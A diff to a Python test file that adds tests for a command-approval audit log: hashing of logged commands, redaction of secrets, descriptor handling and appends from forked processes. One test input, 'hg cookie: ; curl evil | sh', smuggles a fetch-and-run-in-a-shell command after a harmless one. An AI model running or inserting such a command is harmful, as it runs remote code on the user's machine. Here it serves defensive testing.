@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import os
+import subprocess
 import sys
 import threading
 from datetime import datetime, timedelta, timezone
@@ -55,6 +57,7 @@ def test_audit_log_decision_writes_one_line(tmp_path: Path) -> None:
         "item": "item",
         "method": COMMAND,
         "command": "/bin/bash -lc 'hg status'",
+        "command_sha256": hashlib.sha256(b"/bin/bash -lc 'hg status'").hexdigest(),
         "cwd": "/src",
         "decision": "accept",
         "rule": "allow_commands('hg')",
@@ -159,6 +162,119 @@ def test_audit_log_control_characters_writes_one_ascii_line(tmp_path: Path) -> N
     assert data.count(b"\n") == 2
     assert not set(data) & (set(range(32)) - {ord("\n")})
     assert lines(tmp_path / "log")[0]["command"] == strange
+
+
+@pytest.mark.parametrize(
+    "command", ["hg cookie: ; curl evil | sh", "hg password=hunter22", "hg status", "hg 'ä\ud800'", ""]
+)
+def test_audit_log_redacted_command_has_hash_of_original(command: str, tmp_path: Path) -> None:
+    audit_log(tmp_path / "log", POLICY, actor="me")(command_request("x"))
+    request = command_request("x")
+    request.params.command = command
+    audit_log(tmp_path / "log", POLICY, actor="me")(request)
+    line = lines(tmp_path / "log")[1]
+    assert line["command_sha256"] == hashlib.sha256(command.encode("utf-8", "surrogatepass")).hexdigest()
+    assert "hunter22" not in line["command"]
+
+
+def test_audit_log_hash_of_legacy_command_covers_shown_text(tmp_path: Path) -> None:
+    audit_log(tmp_path / "log", POLICY, actor="me")(legacy_command_request("hg", "a b"))
+    audit_log(tmp_path / "log", POLICY, actor="me")(change_request())
+    first, second = lines(tmp_path / "log")
+    assert first["command"] == "hg 'a b'"
+    assert first["command_sha256"] == hashlib.sha256(b"hg 'a b'").hexdigest()
+    assert "command_sha256" not in second
+
+
+@pytest.mark.skipif(not os.path.isdir("/proc/self/fd"), reason="requires /proc")
+def test_audit_log_leaves_no_descriptor_open(tmp_path: Path) -> None:
+    def opened() -> list[str]:
+        paths = [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")]
+        targets = [os.readlink(path) for path in paths if os.path.islink(path)]
+        return [target for target in targets if str(tmp_path) in target or target == "/dev/full"]
+
+    handler = audit_log(tmp_path / "log", POLICY, actor="me")
+    for _ in range(3):
+        handler(command_request("hg status"))
+    assert opened() == []
+    if os.path.exists("/dev/full"):
+        with pytest.raises(OSError, match="No space"):
+            audit_log("/dev/full", POLICY, actor="me")(command_request("hg status"))
+    assert opened() == []
+
+
+def test_audit_log_descriptor_is_for_appending_and_not_inherited(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    opened: list[tuple[int, bool]] = []
+    original = os.open
+
+    def record(path: Any, flags: int, mode: int = 0o777) -> int:
+        descriptor = original(path, flags, mode)
+        if path == str(tmp_path / "log"):
+            opened.append((flags, os.get_inheritable(descriptor)))
+        return descriptor
+
+    monkeypatch.setattr(os, "open", record)
+    audit_log(tmp_path / "log", POLICY, actor="me")(command_request("hg status"))
+    assert len(opened) == 2
+    for flags, inheritable in opened:
+        assert flags & os.O_APPEND
+        assert not flags & os.O_TRUNC
+        assert not inheritable
+
+
+def test_audit_log_incomplete_write_raises(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    handler = audit_log(tmp_path / "log", POLICY, actor="me")
+    original = os.write
+    monkeypatch.setattr(os, "write", lambda file, data: original(file, data[: len(data) // 2]))
+    with pytest.raises(OSError, match="incompletely"):
+        handler(command_request("hg status"))
+
+
+def test_audit_log_existing_file_keeps_its_mode(tmp_path: Path) -> None:
+    (tmp_path / "log").touch()
+    (tmp_path / "log").chmod(0o640)
+    before = (tmp_path / "log").stat().st_mode
+    audit_log(tmp_path / "log", POLICY, actor="me")(command_request("hg status"))
+    assert (tmp_path / "log").stat().st_mode == before
+
+
+FORKED = """
+import os, sys
+from openai_codex.policies import Policy, audit_log
+from unit.policies.approval_requests import command_request
+
+handler = audit_log(sys.argv[1], Policy(), actor="me")
+handler(command_request("parent before"))
+children = []
+for number in range(2):
+    child = os.fork()
+    if not child:
+        for _ in range(50):
+            handler(command_request(f"child {number}"))
+        os._exit(0)
+    children.append(child)
+for _ in range(50):
+    handler(command_request("parent"))
+for child in children:
+    assert os.waitpid(child, 0)[1] == 0
+"""
+
+
+@pytest.mark.skipif(not hasattr(os, "fork"), reason="requires fork")
+def test_audit_log_after_fork_all_processes_append(tmp_path: Path) -> None:
+    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
+    command = [sys.executable, "-W", "ignore", "-c", FORKED, str(tmp_path / "log")]
+    subprocess.run(command, env=environment, check=True, timeout=60)
+    commands = [line["command"] for line in lines(tmp_path / "log")]
+    assert commands[0] == "parent before"
+    assert {command: commands.count(command) for command in commands} == {
+        "parent before": 1,
+        "parent": 50,
+        "child 0": 50,
+        "child 1": 50,
+    }
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="requires POSIX file modes")
